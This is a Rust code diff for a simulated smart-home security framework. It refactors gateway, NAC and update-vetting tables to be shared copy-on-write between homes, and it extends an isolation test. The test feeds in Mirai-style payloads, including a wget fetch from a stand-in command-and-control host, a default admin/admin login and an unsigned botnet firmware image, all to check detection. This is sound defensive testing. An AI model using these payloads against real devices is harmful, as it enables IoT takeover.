@@ -13,17 +13,20 @@ use crate::correlation::{CorrelationConfig, CorrelationEngine, Verdict};
 use crate::dataanalytics::DataAnalytics;
 use crate::dpi::{default_rules, DpiSession, EncryptedDpi};
 use crate::evidence::EvidenceStore;
-use crate::nac::{AccessDecision, Nac};
+use crate::nac::{AccessDecision, Allowlists, Nac};
 use crate::netmonitor::NetMonitor;
 use crate::policy::{PolicyConfig, PolicyEngine, ResponseAction};
 use crate::shaping::{ShapingMode, TrafficShaper};
-use crate::updatevet::UpdateVetter;
+use crate::updatevet::{UpdateVetter, VetPolicy};
 use std::borrow::Cow;
 use std::cell::RefCell;
 use std::collections::BTreeMap;
 use std::rc::Rc;
 use std::sync::{Arc, OnceLock};
-use xlf_cloud::{parse_reading, CloudNode, DeviceHandler, EventKeys, EventPolicy, SmartCloud};
+use xlf_cloud::{
+    parse_reading, AppSet, Capability, CloudNode, DeviceHandler, EventKeys, EventPolicy, SmartApp,
+    SmartCloud,
+};
 use xlf_device::{DeviceConfig, DeviceKit, SensorKind, SimDevice, VulnSet};
 use xlf_lwcrypto::kdf::derive_key;
 use xlf_lwcrypto::searchable::{Token, Tokenizer};
@@ -211,6 +214,13 @@ impl XlfCore {
         self.drain.drain_into(&mut self.store);
         self.correlation.evaluate_device(&self.store, device, now)
     }
+
+    /// The score of [`XlfCore::verdict_for`]'s verdict, without the
+    /// rest of the verdict.
+    pub fn score_for(&mut self, device: &str, now: SimTime) -> f64 {
+        self.drain.drain_into(&mut self.store);
+        self.correlation.score_device(&self.store, device, now)
+    }
 }
 
 /// A shared handle to the Core (the gateway, experiments, and harnesses
@@ -250,7 +260,7 @@ pub struct XlfGateway {
     /// Where per-device DPI sessions come from.
     kit: Arc<HomeKit>,
     /// Per-device DPI middleboxes, created on a device's first scan.
-    dpi: BTreeMap<String, EncryptedDpi>,
+    dpi: BTreeMap<Rc<str>, EncryptedDpi>,
     /// Token buffer reused by every DPI scan.
     tokens: Vec<Token>,
     /// The §IV-A1 authentication delegation proxy; its token lifetime is
@@ -258,7 +268,7 @@ pub struct XlfGateway {
     pub auth_proxy: DelegationProxy,
     /// Last upstream activity (real or cover) per device, for
     /// constant-rate cover-traffic injection.
-    last_upstream: BTreeMap<String, SimTime>,
+    last_upstream: BTreeMap<Rc<str>, SimTime>,
     bus: EvidenceBus,
     /// Quarantines decided but not yet enforced (cloud-hosted Core).
     pending_quarantines: Vec<String>,
@@ -279,24 +289,23 @@ impl std::fmt::Debug for XlfGateway {
 }
 
 impl XlfGateway {
-    /// Creates a gateway bridging `cloud`, wired to `core`, inspecting
-    /// each device under its DPI session from `kit`.
+    /// Creates a gateway bridging `cloud`, wired to `core`, allowlisting
+    /// and vetting updates as `kit` does and inspecting each device under
+    /// its DPI session from `kit`.
     pub fn new(core: CoreHandle, config: XlfConfig, cloud: NodeId, kit: Arc<HomeKit>) -> Self {
         let bus = core.borrow().bus.clone();
-        let mut vetter = UpdateVetter::new(&crate::dpi::xlf_attacks_signatures().to_vec());
-        vetter.trust_vendor("acme", b"acme vendor secret");
         let shaper = TrafficShaper::new(config.shaping, 0x5107);
         XlfGateway {
             core,
             cloud,
             devices: BTreeMap::new(),
             names: BTreeMap::new(),
-            nac: Nac::new().with_bus(bus.clone()),
+            nac: Nac::with_allowlists(Arc::clone(&kit.allowlists)).with_bus(bus.clone()),
             shaper,
             monitor: NetMonitor::new().with_bus(bus.clone()),
             verifier: AppVerifier::new().with_bus(bus.clone()),
             analytics: DataAnalytics::new().with_bus(bus.clone()),
-            vetter: vetter.with_bus(bus.clone()),
+            vetter: UpdateVetter::with_policy(Arc::clone(&kit.vetting)).with_bus(bus.clone()),
             kit,
             dpi: BTreeMap::new(),
             tokens: Vec::new(),
@@ -329,16 +338,14 @@ impl XlfGateway {
         self.shaper.cost
     }
 
-    fn dpi_for(&mut self, device: &str) -> &mut EncryptedDpi {
-        if !self.dpi.contains_key(device) {
-            let middlebox =
-                EncryptedDpi::new(self.kit.dpi_session(device)).with_bus(self.bus.clone());
-            self.dpi.insert(device.to_string(), middlebox);
-        }
-        self.dpi.get_mut(device).expect("inserted above")
+    fn dpi_for(&mut self, device: &Rc<str>) -> &mut EncryptedDpi {
+        let (kit, bus) = (&self.kit, &self.bus);
+        self.dpi
+            .entry(Rc::clone(device))
+            .or_insert_with(|| EncryptedDpi::new(kit.dpi_session(device)).with_bus(bus.clone()))
     }
 
-    fn scan_payload(&mut self, device: &str, payload: &[u8], now: SimTime) -> bool {
+    fn scan_payload(&mut self, device: &Rc<str>, payload: &[u8], now: SimTime) -> bool {
         if !self.config.dpi || payload.is_empty() {
             return false;
         }
@@ -361,9 +368,13 @@ impl XlfGateway {
     /// DPI scan answers for each, with identical evidence and counters.
     /// Empty payloads are skipped, as in the per-packet path.
     pub fn inspect_batch(&mut self, device: &str, payloads: &[&[u8]], now: SimTime) -> Vec<bool> {
+        let device = match self.devices.get_key_value(device) {
+            Some((name, _)) => Rc::clone(name),
+            None => Rc::from(device),
+        };
         payloads
             .iter()
-            .map(|payload| self.scan_payload(device, payload, now))
+            .map(|payload| self.scan_payload(&device, payload, now))
             .collect()
     }
 
@@ -376,12 +387,7 @@ impl XlfGateway {
         if self.config.netmonitor {
             self.monitor.observe_packet(device, now);
         }
-        match self.last_upstream.get_mut(&**device) {
-            Some(last) => *last = now,
-            None => {
-                self.last_upstream.insert(device.to_string(), now);
-            }
-        }
+        self.last_upstream.insert(Rc::clone(device), now);
         // Scan application payloads crossing the gateway.
         self.scan_payload(device, &packet.payload, now);
 
@@ -418,7 +424,7 @@ impl XlfGateway {
                     let seasonal = matches!(&*attribute, "temperature" | "power" | "smoke");
                     if self.config.dataanalytics && seasonal {
                         if let Ok(v) = value.parse::<f64>() {
-                            self.analytics.observe(device, &attribute, v, now);
+                            self.analytics.observe(device, attribute, v, now);
                         }
                     }
                 }
@@ -614,7 +620,7 @@ impl Node for XlfGateway {
                         .unwrap_or(SimTime::ZERO);
                     let covers = self.shaper.cover_packets_for(now.since(last));
                     if !covers.is_empty() {
-                        self.last_upstream.insert(device.to_string(), now);
+                        self.last_upstream.insert(Rc::clone(&device), now);
                     }
                     for size in covers {
                         let mut pkt = Packet::new(ctx.id(), self.cloud, "cover", Vec::new())
@@ -700,35 +706,47 @@ const HOME_MASTER_SECRET: &[u8] = b"home master secret";
 /// The cloud's hub secret, which a device's event key is derived from.
 const HUB_SECRET: &[u8] = b"hub secret";
 
+/// The cloud's raw node id in every built home.
+const CLOUD_RAW: u32 = 0;
+
 /// The gateway's raw node id in every built home (the cloud is 0, the
 /// devices follow); a kit's device configurations address it.
 const GATEWAY_RAW: u32 = 1;
 
-/// The key material of one device list: each device's [`DeviceKit`]
-/// (signed factory firmware, credential hash, sealed store), its cloud
-/// event cipher and its gateway DPI session. All of it is a pure
-/// function of the device list and the fixed secrets every home is
-/// built with, so it is derived once and every home built from the kit
-/// ([`XlfHome::from_kit`]) shares it read-only; what depends on the
-/// home's seed (the network, its RNG, all mutable device, gateway and
-/// cloud state) stays per home.
+/// Everything a home of one device list starts with that does not
+/// depend on the home's seed: each device's [`DeviceKit`] (signed
+/// firmware slot, credentials, sealed store) and cloud capability
+/// table, the gateway's NAC allowlists and update-vetting policy, the
+/// cloud's installed apps ([`HomeKit::with_apps`]) and event ciphers,
+/// and the gateway's per-device DPI sessions. It is derived once, and
+/// every home built from the kit ([`XlfHome::from_kit`]) holds each
+/// piece by reference, copying one only on its own first write to it
+/// (a brute-forced login, an installed image, a new allowlist entry or
+/// app), so what one home does never reaches a sibling. What depends on
+/// the home's seed (the network, its RNG, the Core and every table a
+/// running home fills) stays per home.
 #[derive(Debug)]
 pub struct HomeKit {
     devices: Vec<KitDevice>,
     event_keys: Arc<EventKeys>,
+    allowlists: Arc<Allowlists>,
+    vetting: Arc<VetPolicy>,
+    apps: AppSet,
 }
 
 #[derive(Debug)]
 struct KitDevice {
     spec: HomeDevice,
     kit: DeviceKit,
+    capabilities: Arc<[Capability]>,
     /// Bound by the first home of the kit that scans the device.
     dpi: OnceLock<Arc<DpiSession>>,
 }
 
 impl HomeKit {
-    /// Derives the kit of `devices`. Event ciphers and DPI sessions are
-    /// left for the first home that needs each to derive, once per kit.
+    /// Derives the kit of `devices`, with no apps installed. Event
+    /// ciphers and DPI sessions are left for the first home that needs
+    /// each to derive, once per kit.
     pub fn derive(devices: &[HomeDevice]) -> Self {
         let gateway = NodeId::from_raw(GATEWAY_RAW);
         let kits = DeviceKit::derive_all(devices.iter().map(|d| {
@@ -742,14 +760,32 @@ impl HomeKit {
             .map(|(d, kit)| KitDevice {
                 spec: d.clone(),
                 kit,
+                capabilities: Arc::from(d.capabilities.as_slice()),
                 dpi: OnceLock::new(),
             })
             .collect();
         let event_keys = EventKeys::new(HUB_SECRET, devices.iter().map(|d| d.spec.name.as_str()));
+        // Each device may reach the cloud and resolve its vendor hub.
+        let mut nac = Nac::new();
+        for d in &devices {
+            nac.allow_node(&d.spec.name, NodeId::from_raw(CLOUD_RAW));
+            nac.allow_destination(&d.spec.name, VENDOR_DNS_NAME);
+        }
+        let mut vetter = UpdateVetter::new(&crate::dpi::xlf_attacks_signatures());
+        vetter.trust_vendor("acme", b"acme vendor secret");
         HomeKit {
             devices,
             event_keys: Arc::new(event_keys),
+            allowlists: Arc::clone(nac.allowlists()),
+            vetting: Arc::clone(vetter.policy()),
+            apps: AppSet::default(),
         }
+    }
+
+    /// Installs `apps` in every home's cloud (builder-style).
+    pub fn with_apps(mut self, apps: impl IntoIterator<Item = SmartApp>) -> Self {
+        self.apps = AppSet::new(apps);
+        self
     }
 
     /// Whether the kit was derived from exactly `devices`.
@@ -784,8 +820,8 @@ pub struct XlfHome {
     pub cloud: NodeId,
     /// Gateway node id.
     pub gateway: NodeId,
-    /// Device name → node id.
-    pub devices: BTreeMap<String, NodeId>,
+    /// Device name (each device's shared name) → node id.
+    pub devices: BTreeMap<Rc<str>, NodeId>,
 }
 
 impl std::fmt::Debug for XlfHome {
@@ -807,40 +843,47 @@ impl XlfHome {
     }
 
     /// Builds a home of the kit's devices, as [`XlfHome::build`] does,
-    /// from the kit's key material.
+    /// holding what the kit holds by reference.
     pub fn from_kit(seed: u64, config: XlfConfig, kit: &Arc<HomeKit>) -> XlfHome {
-        let mut net = Network::new(seed);
+        // The cloud, the gateway and one node per device, each device
+        // linked to the gateway and the gateway to the cloud.
+        let nodes = kit.devices.len() + 2;
+        let mut net = Network::with_capacity(seed, nodes, nodes - 1);
         let core: CoreHandle = Rc::new(RefCell::new(XlfCore::with_evidence_capacity(
             config.correlation.clone(),
             config.policy.clone(),
             config.evidence_capacity,
         )));
 
-        let cloud_id = NodeId::from_raw(0);
+        let cloud_id = NodeId::from_raw(CLOUD_RAW);
         let gateway_id = NodeId::from_raw(GATEWAY_RAW);
 
-        // The cloud is deliberately built with the *flawed* 2016-era
-        // posture the paper analyzes (permissive events and permissions):
-        // XLF's thesis is that the cross-layer framework protects the home
-        // even when the service layer itself is gullible.
-        let mut cloud = SmartCloud::with_event_keys(
-            EventPolicy::permissive(),
-            xlf_cloud::smartapp::PermissionModel::Permissive,
-            Arc::clone(&kit.event_keys),
-        );
-        for d in &kit.devices {
-            cloud.register_device(DeviceHandler::new(&d.spec.name, &d.spec.capabilities));
-        }
-        let actual_cloud = net.add_node(Box::new(CloudNode::new(cloud, gateway_id)));
-        assert_eq!(actual_cloud, cloud_id);
-
         // Each device's name is made once, by the device, and shared
-        // with the gateway and every packet that names the device.
+        // with the cloud, the gateway and every packet that names the
+        // device.
         let sims: Vec<SimDevice> = kit
             .devices
             .iter()
             .map(|d| SimDevice::from_kit(&d.kit))
             .collect();
+
+        // The cloud is deliberately built with the *flawed* 2016-era
+        // posture the paper analyzes (permissive events and permissions):
+        // XLF's thesis is that the cross-layer framework protects the home
+        // even when the service layer itself is gullible.
+        let mut cloud = SmartCloud::with_apps(
+            EventPolicy::permissive(),
+            xlf_cloud::smartapp::PermissionModel::Permissive,
+            Arc::clone(&kit.event_keys),
+            &kit.apps,
+        );
+        for (d, sim) in kit.devices.iter().zip(&sims) {
+            let capabilities = Arc::clone(&d.capabilities);
+            cloud.register_device(DeviceHandler::shared(Rc::clone(sim.name()), capabilities));
+        }
+        let actual_cloud = net.add_node(Box::new(CloudNode::new(cloud, gateway_id)));
+        assert_eq!(actual_cloud, cloud_id);
+
         let mut gateway = XlfGateway::new(core.clone(), config, cloud_id, Arc::clone(kit));
         let first_device_raw = GATEWAY_RAW + 1;
         for (i, sim) in sims.iter().enumerate() {
@@ -852,13 +895,14 @@ impl XlfHome {
 
         let mut devices = BTreeMap::new();
         for (d, sim) in kit.devices.iter().zip(sims) {
+            let name = Rc::clone(sim.name());
             let id = net.add_node(Box::new(sim));
             let medium = match d.spec.sensor {
                 SensorKind::Camera => Medium::Wifi,
                 _ => Medium::Zigbee,
             };
             net.connect(gateway_id, id, medium.link().with_loss(0.0));
-            devices.insert(d.spec.name.clone(), id);
+            devices.insert(name, id);
         }
         net.connect(gateway_id, cloud_id, Medium::Wan.link().with_loss(0.0));
 
@@ -978,6 +1022,11 @@ struct TrafficMeter {
     wire_bytes: u64,
 }
 
+/// Transmissions the meter has room for per device before it grows:
+/// about a short (20 s) run of a chatty (3 s telemetry) home, whose
+/// every report crosses two links.
+const METER_SAMPLES_PER_DEVICE: usize = 16;
+
 /// The runner's tap: meters transmissions into a shared
 /// [`TrafficMeter`].
 struct MeterTap {
@@ -1018,7 +1067,10 @@ impl HomeRunner {
     /// Wraps `home`, installing the traffic tap its behaviour features
     /// come from. Install before running: features cover the whole run.
     pub fn new(mut home: XlfHome) -> Self {
-        let traffic = Rc::new(RefCell::new(TrafficMeter::default()));
+        let traffic = Rc::new(RefCell::new(TrafficMeter {
+            samples: Vec::with_capacity(METER_SAMPLES_PER_DEVICE * home.devices.len()),
+            wire_bytes: 0,
+        }));
         home.net.add_tap(Box::new(MeterTap {
             cloud: home.cloud,
             meter: traffic.clone(),
@@ -1114,22 +1166,24 @@ impl HomeRunner {
         // Fused verdict per device; the most suspicious one is the
         // home's headline. Iteration is in BTreeMap (name) order, ties
         // keep the first name — deterministic.
-        let mut top_device = String::new();
+        let mut top: Option<&str> = None;
         let mut top_score = 0.0f64;
-        let device_names: Vec<String> = self.home.devices.keys().cloned().collect();
-        for name in &device_names {
-            let verdict = self.home.core.borrow_mut().verdict_for(name, now);
-            if verdict.score > top_score || top_device.is_empty() {
-                top_score = verdict.score;
-                top_device = name.clone();
+        for name in self.home.devices.keys() {
+            let score = self.home.core.borrow_mut().score_for(name, now);
+            if score > top_score || top.is_none() {
+                top_score = score;
+                top = Some(name);
             }
         }
+        let top_device = top.unwrap_or_default().to_string();
 
         let gateway = self.home.gateway_ref();
-        let quarantined: Vec<String> = device_names
-            .iter()
+        let quarantined: Vec<String> = self
+            .home
+            .devices
+            .keys()
             .filter(|name| gateway.nac.is_quarantined(name))
-            .cloned()
+            .map(|name| name.to_string())
             .collect();
 
         let features =
@@ -1437,22 +1491,82 @@ mod tests {
         ]
     }
 
-    fn run_to(home: XlfHome, secs: u64) -> HomeReport {
+    /// What a home leaves behind: its report, every transmission, and its
+    /// evidence.
+    type Trace = (
+        HomeReport,
+        Vec<xlf_simnet::observer::PacketRecord>,
+        Vec<String>,
+    );
+
+    fn trace_to(mut home: XlfHome, secs: u64) -> Trace {
+        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
+        home.net.add_tap(Box::new(tap));
         let mut runner = HomeRunner::new(home);
-        runner.run_until(SimTime::from_secs(secs));
-        runner.finish(SimTime::from_secs(secs))
+        let end = SimTime::from_secs(secs);
+        runner.run_until(end);
+        let core = &runner.home().core;
+        core.borrow_mut().drain_pending(usize::MAX);
+        let evidence = core
+            .borrow()
+            .store
+            .all()
+            .iter()
+            .map(|e| format!("{e:?}"))
+            .collect();
+        let report = runner.finish(end);
+        let records = records.take();
+        (report, records, evidence)
+    }
+
+    /// The kit of [`kit_devices`] with the auto-window app installed.
+    fn app_kit() -> Arc<HomeKit> {
+        Arc::new(HomeKit::derive(&kit_devices()).with_apps([SmartApp::auto_window()]))
+    }
+
+    /// Whether `home` still holds each of the kit's shared tables.
+    fn shares_kit_tables(home: &XlfHome, kit: &HomeKit) -> [bool; 4] {
+        let gateway = home.gateway_ref();
+        let cloud = home.net.node_as::<CloudNode>(home.cloud).unwrap().cloud();
+        let capabilities = kit.devices.iter().all(|d| {
+            let handler = &cloud.handlers[d.spec.name.as_str()];
+            Arc::ptr_eq(&handler.capabilities, &d.capabilities)
+        });
+        [
+            Arc::ptr_eq(gateway.nac.allowlists(), &kit.allowlists),
+            Arc::ptr_eq(gateway.vetter.policy(), &kit.vetting),
+            cloud.shares_apps(&kit.apps),
+            capabilities,
+        ]
+    }
+
+    /// Whether two homes' devices still share each one's firmware slot,
+    /// credentials and store.
+    fn share_device_stores(a: &XlfHome, b: &XlfHome, device: &str) -> [bool; 3] {
+        let (a, b) = (a.device_ref(device), b.device_ref(device));
+        [
+            std::ptr::eq(a.firmware(), b.firmware()),
+            std::ptr::eq(a.credentials(), b.credentials()),
+            std::ptr::eq(a.storage(), b.storage()),
+        ]
     }
 
     #[test]
     fn what_one_home_does_never_reaches_a_sibling_from_the_same_kit() {
         use xlf_device::firmware::{FirmwareImage, Version};
-        let kit = Arc::new(HomeKit::derive(&kit_devices()));
+        let kit = app_kit();
         let mut attacked = XlfHome::from_kit(7, XlfConfig::full(), &kit);
         let sibling = XlfHome::from_kit(7, XlfConfig::full(), &kit);
+        let idle = XlfHome::from_kit(8, XlfConfig::full(), &kit);
+        assert_eq!(shares_kit_tables(&attacked, &kit), [true; 4]);
+        assert_eq!(share_device_stores(&attacked, &sibling, "cam"), [true; 3]);
         attacked.net.run_until(SimTime::from_secs(30));
 
-        // DPI hits at the gateway, then a tampered image the camera (which
-        // takes unsigned firmware) installs.
+        // DPI hits at the gateway; a default-credential login that takes
+        // the camera over; a tampered image the camera (which takes
+        // unsigned firmware) installs; then the operator quarantines it,
+        // lets it resolve a new name, trusts a new vendor and installs a
+        // second app in the cloud.
         let now = SimTime::from_secs(30);
         let gateway = attacked.net.node_as_mut::<XlfGateway>(attacked.gateway);
         let payloads: [&[u8]; 2] = [b"wget${IFS}http://cnc.evil/bot.sh", b"/bin/busybox MIRAI"];
@@ -1460,22 +1574,68 @@ mod tests {
         assert_eq!(hits, vec![true, true]);
         let evil = FirmwareImage::unsigned(Version(9, 9, 9), "mallory", b"BOTNET".to_vec());
         let (gw, cam) = (attacked.gateway, attacked.devices["cam"]);
-        let ota = Packet::new(gw, cam, "ota", evil.to_bytes());
-        attacked.net.inject(gw, cam, ota);
+        let login = Packet::new(gw, cam, "login", Vec::new())
+            .with_meta("user", "admin")
+            .with_meta("pass", "admin");
+        attacked.net.inject(gw, cam, login);
+        attacked
+            .net
+            .inject(gw, cam, Packet::new(gw, cam, "ota", evil.to_bytes()));
         attacked.net.run_until(SimTime::from_secs(60));
         assert!(attacked.device_ref("cam").is_compromised());
+        assert!(attacked
+            .device_ref("cam")
+            .firmware()
+            .payload_contains(b"BOTNET"));
         assert_eq!(attacked.gateway_ref().dpi["cam"].stats.matches, 2);
+        let gateway = attacked
+            .net
+            .node_as_mut::<XlfGateway>(attacked.gateway)
+            .unwrap();
+        gateway.nac.quarantine("cam");
+        gateway.nac.allow_destination("cam", "cnc.evil");
+        gateway.vetter.trust_vendor("mallory", b"mallory key");
+        let cloud = attacked
+            .net
+            .node_as_mut::<CloudNode>(attacked.cloud)
+            .unwrap();
+        cloud.cloud_mut().install_app(SmartApp::auto_window());
+        attacked.net.run_until(SimTime::from_secs(90));
 
-        // The sibling, built before and run after, is untouched: its camera
-        // holds the factory image, its DPI matched nothing, and it runs
-        // exactly like a home that derived its own keys.
+        // The attacked home copied every table it wrote and nothing else.
+        assert_eq!(
+            shares_kit_tables(&attacked, &kit),
+            [false, false, false, true]
+        );
+        let stores = share_device_stores(&attacked, &sibling, "cam");
+        assert_eq!(stores, [false, false, true]);
+        assert_eq!(
+            share_device_stores(&attacked, &sibling, "thermo"),
+            [true; 3]
+        );
+
+        // The sibling, built before and run after, is untouched: its
+        // camera holds the factory image and its tables are the kit's,
+        // and it runs exactly like a home that derived its own kit.
         let cam = sibling.device_ref("cam");
         assert_eq!(cam.firmware().installed().version, Version(1, 0, 0));
         assert!(!cam.firmware().payload_contains(b"BOTNET"));
-        let own = XlfHome::build(7, XlfConfig::full(), &kit_devices());
-        let report = run_to(sibling, 60);
-        assert_eq!(report.evidence_total, 0);
-        assert_eq!(report, run_to(own, 60));
+        assert!(!sibling.gateway_ref().nac.is_quarantined("cam"));
+        let sibling = trace_to(sibling, 90);
+        assert_eq!(sibling.0.evidence_total, 0);
+        assert_eq!(
+            sibling,
+            trace_to(XlfHome::from_kit(7, XlfConfig::full(), &app_kit()), 90)
+        );
+
+        // A home that wrote nothing still shares each table.
+        let mut idle = idle;
+        idle.net.run_until(SimTime::from_secs(90));
+        assert_eq!(shares_kit_tables(&idle, &kit), [true; 4]);
+        let fresh = XlfHome::from_kit(9, XlfConfig::full(), &kit);
+        for device in ["cam", "thermo"] {
+            assert_eq!(share_device_stores(&idle, &fresh, device), [true; 3]);
+        }
     }
 
     #[test]
